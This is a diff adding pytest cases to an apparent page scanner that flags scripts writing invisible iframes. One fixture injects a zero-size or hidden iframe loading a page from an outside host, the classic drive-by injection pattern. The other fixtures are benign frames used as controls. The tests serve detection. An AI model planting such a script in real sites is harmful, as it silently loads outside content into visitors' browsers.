@@ -78,6 +78,25 @@ def test_what_is_loaded_by_codes_from_a_strange_host_is_asked_about(page, plants
     assert [(found.key, found.status) for found in outcome.findings] == [("assembled", Status.MANUAL)]
 
 
+@pytest.mark.parametrize("size", ["width=0 height=0", "style='display:none' width=1 height=1"])
+def test_a_frame_that_a_script_writes_and_nobody_sees_is_a_hint(page, plants, size):
+    script = f"<script>document.writeln(\"<iframe src='http://www.sl-yx.com/x.htm' {size}></iframe>\")</script>"
+    assert [found.key for found in judge(scripted, plants(page(script))).findings] == ["writes"]
+
+
+@pytest.mark.parametrize(
+    "frame",
+    [
+        "<iframe src='http://www.tianqi-yb.com/widget' width=250 height=60></iframe>",
+        "<iframe src='/tongji/count.jsp' width=0 height=0></iframe>",
+        "<iframe src='https://sso.sl-zwfw.com/login/check?silent=1' style='display:none'></iframe>",
+        "<iframe src='http://kf.sl-im.com/webcall.php' width=0 height=0></iframe>",
+    ],
+)
+def test_frames_that_offices_write_are_no_hint(page, plants, frame):
+    assert judge(scripted, plants(page(f'<script>document.write("{frame}")</script>'))).status is Status.PASS
+
+
 @pytest.mark.parametrize(
     "script",
     [
